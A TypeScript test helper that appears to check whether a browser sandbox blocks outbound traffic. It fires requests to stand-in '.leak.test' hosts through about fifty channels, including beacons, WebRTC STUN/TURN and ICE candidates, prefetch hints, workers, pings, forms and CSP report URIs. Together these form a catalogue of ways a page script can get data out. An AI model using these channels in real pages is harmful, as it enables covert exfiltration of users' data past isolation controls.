/** Every way that we know of by which a script in a page could make the browser look for something elsewhere. */

/**
 * To be evaluated in the page. Each way looks for a name of its own, `WAY.leak.test`, and some for the address as well.
 * @param but what is left out
 * @returns the ways that were tried
 */
export async function reachOut({
  address,
  but,
}: {
  readonly address: string;
  readonly but: readonly string[];
}): Promise<readonly string[]> {
  const place = (way: string) => `${way}.leak.test`;
  const url = (way: string, scheme = 'https') => `${scheme}://${place(way)}/all-that-it-knows`;
  const plain = (path: string, scheme = 'http') => `${scheme}://${address}/${path}`;
  const add = (name: string, properties: Record<string, unknown>) => {
    const made = document.createElement(name);
    for (const [key, value] of Object.entries(properties)) {
      if (key in made && key !== 'sizes') Object.assign(made, { [key]: value });
      else made.setAttribute(key, String(value));
    }
    document.body.append(made);
    return made;
  };
  const link =
    (rel: string, more: Record<string, unknown> = {}) =>
    () => {
      add('link', { rel, href: url(rel.replace(/\W/g, '')), ...more });
      add('link', { rel, href: plain(rel), ...more });
    };
  const global = globalThis as unknown as Record<string, new (...values: unknown[]) => Record<string, unknown>>;
  const made = (name: string, ...values: unknown[]) => {
    const Made = global[name];
    return Made ? new Made(...values) : null;
  };
  const peer = async (iceServers: RTCIceServer[]) => {
    const connection = new RTCPeerConnection({ iceServers });
    connection.createDataChannel('all that it knows');
    await connection.setLocalDescription(await connection.createOffer());
    return connection;
  };
  const turn = (uri: string) => ({ urls: uri, username: 'all-that-it-knows', credential: 'x' });
  /** An answer of somebody who is to be found at these candidates. */
  const withCandidates = async (candidates: readonly string[]) => {
    const connection = await peer([]);
    const other = new RTCPeerConnection();
    await other.setRemoteDescription(connection.localDescription as RTCSessionDescription);
    await other.setLocalDescription(await other.createAnswer());
    await connection.setRemoteDescription(other.localDescription as RTCSessionDescription);
    for (const candidate of candidates) await connection.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
  };

  const ways: Record<string, () => unknown> = {
    'dns-prefetch': link('dns-prefetch'),
    preconnect: link('preconnect'),
    prefetch: link('prefetch'),
    preload: link('preload', { as: 'script' }),
    modulepreload: link('modulepreload'),
    prerender: link('prerender'),
    icon: link('icon'),
    manifest: link('manifest'),
    stylesheet: link('stylesheet'),
    'speculation rules': () =>
      add('script', {
        type: 'speculationrules',
        textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [url('speculation')] }] }),
      }),
    'STUN by name': () => peer([{ urls: `stun:${place('stun')}:3478` }]),
    'STUN by address': () => peer([{ urls: `stun:${address}:3478` }]),
    'TURN by name': () => peer([turn(`turn:${place('turn')}:3478`)]),
    'TURN by TCP': () => peer([turn(`turn:${place('turn-tcp')}:3478?transport=tcp`)]),
    'TURN by TCP to an address': () => peer([turn(`turn:${address}:3478?transport=tcp`)]),
    'TURN by TLS': () => peer([turn(`turns:${place('turn-tls')}:5349`)]),
    'TURN by TLS to an address': () => peer([turn(`turns:${address}:5349`)]),
    'TURN at the port of HTTPS': () => peer([turn(`turns:${place('turn-https')}:443?transport=tcp`)]),
    candidates: () =>
      withCandidates([
        `candidate:1 1 udp 2122260223 ${place('ice')} 3478 typ host`,
        `candidate:2 1 udp 2122260222 all-that-it-knows.local 3478 typ host`,
        `candidate:3 1 udp 2122260221 ${address} 3478 typ host`,
        `candidate:4 1 tcp 1518280447 ${address} 3478 typ host tcptype passive`,
        `candidate:5 1 tcp 1518280446 ${place('ice-tcp')} 3478 typ host tcptype passive`,
      ]),
    beacon: () => navigator.sendBeacon(url('beacon'), 'all that it knows'),
    fetch: () => fetch(url('fetch'), { mode: 'no-cors' }),
    'fetch by address': () => fetch(plain('fetch'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
    keepalive: () => fetch(url('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
    XMLHttpRequest: () => {
      const request = new XMLHttpRequest();
      request.open('GET', url('xhr'));
      request.send();
    },
    WebSocket: () => [new WebSocket(url('websocket', 'wss')), new WebSocket(plain('socket', 'ws'))],
    WebSocketStream: () => made('WebSocketStream', url('websocketstream', 'wss')),
    WebTransport: () => [made('WebTransport', url('webtransport')), made('WebTransport', `https://${address}:443/x`)],
    EventSource: () => new EventSource(url('eventsource')),
    'service worker': () => navigator.serviceWorker.register(url('serviceworker')),
    worker: () => new Worker(url('worker')),
    'shared worker': () => new SharedWorker(url('sharedworker')),
    script: () => add('script', { src: url('script') }),
    import: () => import(/* @vite-ignore */ url('import')),
    picture: () => add('img', { src: url('img'), srcset: `${url('srcset')} 2x` }),
    audio: () => add('audio', { src: url('audio'), preload: 'auto' }),
    video: () => add('video', { src: url('video'), poster: url('poster'), preload: 'auto' }),
    object: () => [add('object', { data: url('object') }), add('embed', { src: url('embed') })],
    frame: () => [add('iframe', { src: url('frame') }), add('fencedframe', { src: url('fencedframe') })],
    'background of an element': () => document.body.style.setProperty('background-image', `url(${url('background')})`),
    font: () => new FontFace('elsewhere', `url(${url('font')})`).load(),
    'style sheet that is made': () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body::after { content: url(${url('sheet')}) }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
    ping: () => {
      const anchor = Object.assign(document.createElement('a'), { href: '#', ping: url('ping') });
      document.body.append(anchor);
      anchor.click();
    },
    form: () => (add('form', { action: url('form'), method: 'post', target: '_blank' }) as HTMLFormElement).submit(),
    window: () => window.open(url('window')),
    location: () => location.assign(url('location')),
    payment: () =>
      made('PaymentRequest', [{ supportedMethods: url('payment') }], {
        total: { label: '', amount: { currency: 'EUR', value: '1' } },
      }),
    identity: () =>
      navigator.credentials.get({
        identity: { providers: [{ configURL: url('identity'), clientId: 'x' }] },
      } as CredentialRequestOptions),
    presentation: () => {
      const request = made('PresentationRequest', [url('presentation')]) as { getAvailability?(): unknown } | null;
      return request?.getAvailability?.();
    },
    manifest2: () => add('link', { rel: 'manifest', href: url('manifest2'), crossorigin: 'use-credentials' }),
    base: () => [add('base', { href: url('base') }), add('img', { src: 'relative' })],
    refresh: () => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0;${url('refresh')}`;
      document.head.append(meta);
    },
    'policy of its own': () => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'Content-Security-Policy';
      meta.content = `img-src 'none'; report-uri ${url('report')}`;
      document.head.append(meta);
    },
  };
  for (const way of but) delete ways[way];
  await Promise.allSettled(Object.values(ways).map(async (reach) => reach()));
  return Object.keys(ways);
}
